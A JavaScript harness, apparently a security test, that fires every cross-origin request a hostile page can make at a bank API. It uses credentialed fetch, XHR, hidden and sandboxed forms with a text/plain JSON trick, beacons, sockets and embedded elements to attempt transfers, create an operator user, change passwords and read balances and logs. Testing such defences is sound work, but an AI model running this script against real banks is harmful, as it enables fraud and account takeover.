// What a page can try against a bank that its reader's browser reaches. Each try is counted, and what of its
// answer the page could read is kept.
"use strict";

async function attack({ bank, account, payee, token, endsSessions, wait }) {
    const readable = [];
    let tries = 0;

    const id = () => "xxxxxxxx-xxxx-4xxx-8xxx-xxxxxxxxxxxx".replace(
        /x/g, () => Math.floor(Math.random() * 16).toString(16));
    const writes = () => [
        ["POST", "/v1/transfers", {
            id: id(), kind: "transfer", amount: "1.00", currency: "USD",
            debit_account: account, credit_account: payee,
        }],
        ["POST", "/v1/accounts", { id: id(), name: "of a page", currency: "USD" }],
        ["POST", "/v1/sessions", { user: "alice", password: "a guess of a page", client: "page" }],
        ["POST", "/v1/users", { user: "mallory", rights: "operator" }],
        ["PUT", "/v1/me/password", { old_password: "a guess of a page", new_password: "as a page likes" }],
        ...(endsSessions ? [["DELETE", "/v1/sessions", null]] : []),
    ];
    const reads = [
        `/v1/accounts/${account}/balance`, `/v1/accounts/${account}/statement`, "/v1/accounts",
        "/v1/bank", "/v1/audit", "/v1/me", "/v1/sessions", "/v1/security-log", "/readyz",
        "/openapi.yaml",
    ];
    const bodyTypes = [
        "text/plain", "text/plain;charset=application/json", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x", "application/json", null,
    ];

    // What the page got to see. Nothing of an opaque answer is.
    const saw = (how, path, status, text) => {
        if (text) readable.push({ how, path, status, text: String(text).slice(0, 300) });
    };
    const within = (promise) => Promise.race([
        promise, new Promise((resolve) => setTimeout(resolve, wait)),
    ]);

    async function byFetch(method, path, body, type, options, url = bank + path) {
        tries += 1;
        const headers = { ...(type && body ? { "content-type": type } : {}), ...options.headers };
        // A string has a type of its own; bytes have none.
        const bytes = body && (type ? JSON.stringify(body)
            : new TextEncoder().encode(JSON.stringify(body)));
        try {
            const answer = await fetch(url, { ...options, method, headers, body: bytes });
            saw(`fetch ${options.mode}`, path, answer.status, await answer.text());
        } catch { /* Nothing to see. */ }
    }

    function byXHR(method, path, body, type) {
        tries += 1;
        return within(new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.open(method, bank + path);
            request.withCredentials = true;
            if (type) request.setRequestHeader("content-type", type);
            request.onloadend = () => {
                saw("XMLHttpRequest", path, request.status, request.responseText);
                resolve();
            };
            request.send(body && JSON.stringify(body));
        }));
    }

    // The page's own site sends the browser on, with the same method and body.
    const detour = (path) => `${location.origin}/detour?to=${encodeURIComponent(bank + path)}`;

    // A form can send JSON, too: of text/plain, the name, an equals sign and the value.
    function fieldsOf(body, enctype) {
        return enctype === "text/plain"
            ? [[JSON.stringify(body).slice(0, -1) + ',"ignored":"', '"}']] : Object.entries(body);
    }

    function byForm(path, body, enctype, action = bank + path) {
        tries += 1;
        const frame = document.createElement("iframe");
        frame.name = id();
        const form = document.createElement("form");
        Object.assign(form, { action, method: "POST", enctype, target: frame.name });
        for (const [name, value] of fieldsOf(body, enctype)) {
            const input = document.createElement("input");
            Object.assign(input, { type: "hidden", name, value });
            form.append(input);
        }
        document.body.append(frame, form);
        return within(new Promise((resolve) => {
            frame.onload = () => {
                try { saw("form", path, 0, frame.contentDocument?.body?.innerText); } catch { /* As it should. */ }
                resolve();
            };
            form.submit();
        }));
    }

    // Of a frame that is of no site at all.
    function bySandbox(path, body, enctype) {
        tries += 1;
        const quoted = (text) => String(text).replaceAll("&", "&amp;").replaceAll('"', "&quot;");
        const inputs = fieldsOf(body, enctype).map(([name, value]) =>
            `<input type="hidden" name="${quoted(name)}" value="${quoted(value)}">`);
        const frame = document.createElement("iframe");
        frame.sandbox = "allow-forms allow-scripts";
        frame.srcdoc = `<form method="POST" enctype="${enctype}" action="${bank + path}">`
            + `${inputs.join("")}</form><script>document.forms[0].submit()<\/script>`;
        let loads = 0;
        return within(new Promise((resolve) => {
            frame.onload = () => { if (++loads === 2) resolve(); };
            document.body.append(frame);
        }));
    }

    function byElement(tag, attribute, path, more = {}) {
        tries += 1;
        const element = Object.assign(document.createElement(tag), more);
        return within(new Promise((resolve) => {
            element.onload = () => {
                try {
                    const seen = element.contentDocument?.body?.innerText
                        || (element.sheet && [...element.sheet.cssRules].map((rule) => rule.cssText).join())
                        || element.naturalWidth || (tag === "script" && "it ran") || "";
                    saw(tag, path, 0, seen);
                } catch { /* As it should. */ }
                resolve();
            };
            element.onerror = resolve;
            element[attribute] = bank + path;
            document.body.append(element);
        }));
    }

    function bySocket(path) {
        tries += 1;
        return within(new Promise((resolve) => {
            try {
                const socket = new WebSocket(bank.replace("http", "ws") + path);
                socket.onopen = () => { saw("WebSocket", path, 0, "it opened"); resolve(); };
                socket.onmessage = (event) => saw("WebSocket", path, 0, event.data);
                socket.onerror = resolve;
            } catch { resolve(); }
        }));
    }

    function byEvents(path) {
        tries += 1;
        return within(new Promise((resolve) => {
            const source = new EventSource(bank + path, { withCredentials: true });
            source.onmessage = (event) => saw("EventSource", path, 0, event.data);
            source.onopen = () => saw("EventSource", path, 0, "it opened");
            source.onerror = () => { source.close(); resolve(); };
        }));
    }

    function byBeacon(path, body, type) {
        tries += 1;
        try { navigator.sendBeacon(bank + path, new Blob([JSON.stringify(body)], { type })); } catch { /* Refused. */ }
    }

    const all = [];
    for (const credentials of ["include", "omit"]) {
        for (const mode of ["cors", "no-cors"]) {
            for (const type of bodyTypes) {
                for (const [method, path, body] of writes()) {
                    all.push(byFetch(method, path, body, type, { mode, credentials }));
                    all.push(byFetch(method, path, body, type, { mode, credentials }, detour(path)));
                }
            }
            for (const path of reads) all.push(byFetch("GET", path, null, null, { mode, credentials }));
        }
    }
    // With what only the operator's own programs have, should a page ever get hold of it.
    const headers = { authorization: `Bearer ${token}` };
    for (const type of bodyTypes) {
        for (const [method, path, body] of writes()) {
            all.push(byFetch(method, path, body, type, { mode: "cors", credentials: "omit", headers }));
        }
    }
    for (const path of reads) {
        all.push(byFetch("GET", path, null, null, { mode: "cors", credentials: "omit", headers }));
        all.push(byXHR("GET", path), bySocket(path), byEvents(path));
        all.push(byElement("img", "src", path), byElement("script", "src", path));
        all.push(byElement("script", "src", path, { type: "module" }));
        all.push(byElement("link", "href", path, { rel: "stylesheet" }));
        all.push(byElement("iframe", "src", path), byElement("object", "data", path));
        all.push(byElement("embed", "src", path), byElement("video", "src", path));
    }
    for (const type of bodyTypes) {
        for (const [method, path, body] of writes()) {
            all.push(byXHR(method, path, body, type));
            if (method === "POST") byBeacon(path, body, type ?? "");
        }
    }
    for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
        for (const [method, path, body] of writes()) {
            if (method !== "POST") continue;
            all.push(byForm(path, body, enctype), byForm(path, body, enctype, detour(path)));
            all.push(bySandbox(path, body, enctype));
        }
    }
    await Promise.all(all);
    return { tries, readable };
}
